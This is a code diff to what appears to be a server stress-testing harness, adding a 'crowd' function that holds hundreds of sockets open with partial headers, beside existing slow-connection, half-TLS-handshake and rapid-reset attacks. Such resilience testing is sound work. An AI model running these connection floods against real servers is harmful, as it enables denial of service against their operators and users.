@@ -9,7 +9,9 @@ from __future__ import annotations
 
 import contextlib
 import random
+import socket
 import struct
+from collections import deque
 from collections.abc import Callable
 from functools import partial
 
@@ -199,6 +201,28 @@ def connections(
         raw.reset()
 
 
+def crowd(target: Target, stop: Stop, *, at_once: int = 500) -> None:
+    """Open many connections at a time, each with half of a call's headers, and never wait."""
+    beginning = Raw(target.address)
+    beginning.headers(CHECK.path, flags=0)
+    said = bytes(beginning.out)
+    beginning.close()
+    held: deque[socket.socket] = deque()
+    while not stop.is_set():
+        caller = socket.socket()
+        caller.setblocking(False)
+        held.append(caller)
+        caller.connect_ex(target.address)
+        if len(held) > at_once:
+            oldest = held.popleft()
+            with contextlib.suppress(OSError):  # it is not connected, or was closed
+                oldest.send(said)
+            held.appendleft(oldest)
+            held.rotate(-1)
+        if len(held) > FLOOD:
+            held.popleft().close()
+
+
 def half_handshakes(target: Target, stop: Stop) -> None:
     """Begin TLS handshakes that never go on."""
     # A record that promises 512 bytes of a ClientHello, and its beginning (RFC 8446, section 5.1).
@@ -268,6 +292,7 @@ ATTACKS: tuple[Attack, ...] = (
     Attack("silent connections", partial(connections, speak=False)),
     Attack("idle connections", partial(connections, speak=True)),
     Attack("half of the headers", partial(connections, speak=True, begin=True)),
+    Attack("a crowd of connections", crowd),
     Attack("no descriptors left", partial(connections, speak=True), descriptors=256),
     Attack("half TLS handshakes", half_handshakes, tls=True),
     Attack("rapid reset behind TLS", partial(frames.rapid_reset, tls=True), tls=True),
